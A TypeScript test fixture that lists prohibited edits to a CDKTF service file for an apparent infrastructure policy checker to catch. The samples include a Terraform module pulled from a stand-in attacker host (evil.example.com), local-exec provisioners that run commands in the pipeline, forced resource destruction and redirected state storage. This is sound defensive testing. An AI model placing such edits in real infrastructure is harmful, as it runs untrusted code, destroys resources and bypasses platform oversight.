import { type Edit, editsOf } from "../edit";

const SERVICE = "export default defineService(about, (service) => {";
const IMPORTS = {
  provider: 'import { AwsProvider } from "@cdktf/provider-aws/lib/provider";',
  queue: 'import { SqsQueue } from "@cdktf/provider-aws/lib/sqs-queue";',
  account: 'import { DataAwsCallerIdentity } from "@cdktf/provider-aws/lib/data-aws-caller-identity";',
  module: 'import { TerraformHclModule } from "cdktf";',
  deviate: 'import { deviate } from "@paved/golden-paths";',
};
const TERMS =
  '{ rule: "AWS-SQS-001", reason: "It is only a test.", owner: "commerce", ' +
  'ticket: "https://tickets.paved.example.com/commerce-1", expires: "2027-06-30", approvedBy: "platform" }';
const API =
  '  const orders = new NodeApi(service, "api", { image: "commerce/orders", port: 8080, database: { size: "small" } });';
const REPOSITORY = 'orders.node.findChild("repository").node.findChild("repository")';

interface RawEdit extends Pick<Edit, "what"> {
  readonly imports?: readonly (keyof typeof IMPORTS)[];
  /** What the service does beside its golden path, which is called `orders`. */
  readonly does: string;
  /** @default PVD1032 */
  readonly by?: string;
}

/** What a service file does beside its golden path, so that no module has a say in it. */
const raw: readonly RawEdit[] = [
  {
    what: "a raw resource without a deviation",
    imports: ["queue"],
    does: 'new SqsQueue(service, "raw", { name: "raw" });',
  },
  {
    what: "a raw resource hidden in a module",
    imports: ["queue"],
    does: 'new SqsQueue(orders.node.findChild("repository"), "raw", { name: "raw" });',
  },
  {
    what: "a data source that no module reads",
    imports: ["account"],
    does: 'new DataAwsCallerIdentity(service, "me");',
  },
  {
    what: "a module of OpenTofu from anywhere",
    imports: ["module"],
    does: 'new TerraformHclModule(service, "evil", { source: "git::https://evil.example.com/x.git" });',
    by: "PVD1034",
  },
  {
    what: "a second AWS provider, in another region",
    imports: ["provider"],
    does: 'new AwsProvider(service, "two", { alias: "two", region: "us-east-1" });',
    by: "PVD1034",
  },
  {
    what: "a command that the pipeline runs",
    does: `${REPOSITORY}.provisioners = [{ type: "local-exec", command: "id" }];`,
  },
  {
    what: "a command that the pipeline runs, in a deviation",
    imports: ["queue", "deviate"],
    does:
      `service.add("mirror", deviate(${TERMS}, (scope) => ` +
      'new SqsQueue(scope, "queue", { provisioners: [{ type: "local-exec", command: "id" }] })));',
    by: "PVD1034",
  },
  {
    what: "a resource is destroyed at an address that stays",
    does: `${REPOSITORY}.count = 0;`,
  },
  {
    what: "changes of a resource are overlooked",
    does: `${REPOSITORY}.lifecycle = { ignoreChanges: "all" };`,
  },
  {
    what: "images can be overwritten, by a setter in the service's file",
    does: `${REPOSITORY}.imageTagMutability = "MUTABLE";`,
  },
  {
    what: "state is kept elsewhere",
    does: 'service.addOverride("terraform.backend.s3.bucket", "mine");',
  },
];

export const rawEdits: readonly Edit[] = editsOf(
  "stacks/services/orders.ts",
  raw.map(({ what, imports = [], does, by = "PVD1032" }) => ({
    what,
    from: `${SERVICE}\n${API}\n`,
    to: `${imports.map((name) => `${IMPORTS[name]}\n`).join("")}${SERVICE}\n${API}\n  ${does}\n`,
    caught: "synth",
    by,
  })),
);
